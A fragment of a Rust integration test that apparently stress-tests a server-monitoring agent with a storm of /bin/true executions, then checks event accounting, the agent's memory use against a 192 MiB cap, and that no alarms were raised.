        })
        .await?;
        // Everything seen is received or counted lost; what is left is in flight between two
        // counter reads (at most the 1 MiB ring buffer's worth, about 700 exec records).
        ensure!(seen.abs_diff(accounted) <= 3_000, "seen {seen} but accounted {accounted}: {after}");
        let detail = api.server_detail(&server).await?;
        let hb = &server_of(&detail)["heartbeat"];
        let rss = hb["rss_bytes"].as_u64().unwrap_or(u64::MAX);
        eprintln!("agent RSS after the storm: {} KiB, CPU {}", rss / 1024, hb["cpu_percent"]);
        // The unit's MemoryHigh (192 MiB) is the cap it is throttled at.
        ensure!(rss < 192 << 20, "agent RSS {rss}");
        ensure!(alarms_of(&api, &server).await?.is_empty(), "/bin/true raised alarms");
        Ok(())
    })
    .await
}
